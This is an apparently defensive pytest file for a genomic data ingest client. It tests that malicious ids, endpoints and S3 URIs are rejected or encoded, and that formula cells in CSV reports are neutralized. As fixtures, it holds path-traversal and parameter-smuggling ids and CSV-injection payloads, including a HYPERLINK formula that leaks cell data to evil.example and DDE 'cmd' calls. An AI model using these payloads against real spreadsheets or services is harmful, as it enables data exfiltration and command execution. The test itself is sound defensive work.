"""Untrusted values never steer a request or a spreadsheet.

- study_id, kf_ids and endpoints are validated before they become part of a URL
  path; filter values (S3 URIs, ids) are percent-encoded query values, so none
  can add a parameter, a path segment or a fragment.
- Report CSVs neutralize cells a spreadsheet would run as a formula (=, +, -, @),
  including manifest values quoted back in a failing check's offending rows.
"""

import csv
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

import pytest
import responses

from gwo_assets.core.s3_uris import parse_s3_uri
from gwo_assets.resources.dataservice_client import DataServiceClient
from gwo_assets.resources.run_settings import IngestSettings, resolve_study
from gwo_assets.resources.s3 import S3Resource, scrape_objects
from gwo_assets_tests.support import run_ingest

BASE = "http://dataservice.test"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def mocked():
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield mock


@pytest.fixture
def client():
    with DataServiceClient(BASE, "token", backoff_factor=0, max_retries=0) as ds:
        yield ds


# -- ids in URL paths -------------------------------------------------------------------


@pytest.mark.parametrize("call", [
    lambda ds: ds.get("/studies", "SD_../../x"),
    lambda ds: ds.get("/studies", "SD_0A1B2C3D/../../genomic-files"),
    lambda ds: ds.get("/genomic-files", "GF_1?x=1"),
    lambda ds: ds.get("/genomic-files", "GF_0A1B2C3D?x=1"),
    lambda ds: ds.get("/genomic-files", "GF_0A1B2C3D#x"),
    lambda ds: ds.get("/genomic-files", "GF_0A1B2C3D/"),
    lambda ds: ds.get("/genomic-files", "GF_%2E%2E%2Fx"),
    lambda ds: ds.get("/genomic-files", "BS_0A1B2C3D"),  # an id of another collection
    lambda ds: ds.update("/genomic-files", "GF_1?x=1", {"size": 1}),
    lambda ds: ds.update("/genomic-files", "GF_0A1B2C3D&visible=false", {"size": 1}),
    lambda ds: ds.delete("/biospecimen-genomic-files", "BG_00000000/../../studies"),
    lambda ds: ds.list_all("/genomic-files/../studies", {}),
    lambda ds: ds.list_all("/genomic-files?study_id=SD_0A1B2C3D", {}),
    lambda ds: ds.list_all("/genomic-files", {"kf_id": "GF_0A1B2C3D"}),
], ids=["study-dotdot", "study-path", "gf-short-query", "gf-query", "gf-fragment", "gf-slash",
        "gf-encoded", "gf-wrong-prefix", "patch-query", "patch-ampersand", "delete-path",
        "endpoint-dotdot", "endpoint-query", "kf_id-filter"])
def test_malicious_ids_and_endpoints_are_refused_before_any_request(client, mocked, call):
    with pytest.raises(ValueError):
        call(client)
    assert len(mocked.calls) == 0


def test_a_kf_id_with_a_trailing_newline_is_refused(client, mocked):
    with pytest.raises(ValueError):
        client.get("/genomic-files", "GF_0A1B2C3D\n")
    assert len(mocked.calls) == 0


@pytest.mark.parametrize("study_id", ["SD_../../x", "SD_0A1B2C3D?x=1", "SD_0A1B2C3D/..",
                                      "SD_0A1B2C3D&kf_id=GF_0A1B2C3D", "GF_0A1B2C3D"])
def test_a_malicious_study_id_is_refused_by_the_run_settings(study_id):
    with pytest.raises(ValueError, match="SD kf_id"):
        IngestSettings(study_id=study_id, manifest="m.tsv")
    with pytest.raises(ValueError, match="SD kf_id"):  # the same rule for a partition key
        resolve_study(study_id, "")


def test_a_malicious_study_id_stops_the_job_before_any_request(stack, tmp_path):
    stack.dataservice.reset_counts()
    info = {**stack.info, "study_id": "SD_0A1B2C3D/../../genomic-files?x=1"}

    result = run_ingest(info, tmp_path / "reports", dry_run=False)

    assert not result.success
    assert stack.dataservice.request_counts() == {}


# -- values in query strings --------------------------------------------------------------


def test_filter_values_are_encoded_query_values_never_extra_parameters(client, mocked):
    mocked.get(f"{BASE}/genomic-files", json={"results": [], "_links": {}, "total": 0})
    hostile = {"external_id": "s3://bucket/key?study_id=SD_00000000&limit=1#frag",
               "study_id": "SD_0A1B2C3D&visible=false"}

    client.list_all("/genomic-files", hostile)

    url = urlsplit(mocked.calls[0].request.url)
    assert url.path == "/genomic-files" and url.fragment == ""
    assert parse_qsl(url.query) == [*hostile.items(), ("limit", "1000")]


@pytest.mark.parametrize("uri", ["s3://bucket", "s3://bucket/", "s3://Bucket/key",
                                 "s3://user@bucket/key", "s3://bucket:443/key", "s3:/bucket/key",
                                 "https://bucket.s3.amazonaws.com/key", "s3://bucket/ key",
                                 "s3://bucket/key ", "s3://b/key"])
def test_malformed_s3_uris_are_refused(uri):
    with pytest.raises(ValueError):
        parse_s3_uri(uri)


def test_a_dot_dot_key_does_not_reach_another_bucket(stack):
    """S3 keys are opaque: s3://bucket/../other/key names a key under `bucket`, and the
    scrape must not read the object of another bucket (checked on the moto sandbox)."""
    s3 = stack.s3.client()
    s3.create_bucket(Bucket="gwo-other")
    s3.put_object(Bucket="gwo-other", Key="secret.cram", Body=b"not yours")
    uri = f"s3://{stack.bucket}/../gwo-other/secret.cram"
    client = S3Resource(endpoint_url=stack.info["s3_endpoint_url"]).get_client()

    frame, _ = scrape_objects(client, [uri], max_workers=1)

    assert frame.set_index("filepath").loc[uri, "exists"] == False  # noqa: E712


# -- CSV injection ------------------------------------------------------------------------


FORMULAS = {
    "Data Type": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "Workflow Type": "+cmd|' /C calc'!A0",
    "KF Participant ID": "@SUM(1+1)*cmd|' /C calc'!A0",
    "KF Biospecimen ID": "-2+3*SUM(A1:A9)",  # a list cell: no spaces or commas
}


def csv_cells(folder: Path) -> list[tuple[str, str]]:
    cells = []
    for path in folder.rglob("*.csv"):
        with path.open(newline="") as handle:
            cells += [(path.name, cell) for row in csv.reader(handle) for cell in row]
    return cells


def test_formula_cells_from_the_manifest_are_neutralized_in_the_offending_rows_csv(stack, tmp_path):
    lines = stack.study.manifest.read_text().splitlines()
    header = lines[0].split("\t")
    for number, (column, formula) in enumerate(FORMULAS.items(), start=1):
        cells = lines[number].split("\t")
        cells[header.index(column)] = formula
        lines[number] = "\t".join(cells)
    manifest = tmp_path / "formulas.tsv"
    manifest.write_text("\n".join(lines) + "\n")
    reports = tmp_path / "reports"
    stack.dataservice.reset_counts()

    result = run_ingest(stack.info, reports, dry_run=False, manifest=str(manifest))

    assert not result.success
    assert stack.dataservice.write_count() == 0
    offending = list(reports.glob("*/checks/manifest_is_well_formed.csv"))
    assert offending, "the failing check wrote no offending-rows CSV"
    quoted = [cell for _, cell in csv_cells(offending[0].parent.parent)]
    for formula in FORMULAS.values():
        assert "'" + formula in quoted, f"{formula!r} not quoted back neutralized"
    assert [(name, cell) for name, cell in csv_cells(reports)
            if cell.startswith(FORMULA_STARTS)] == []
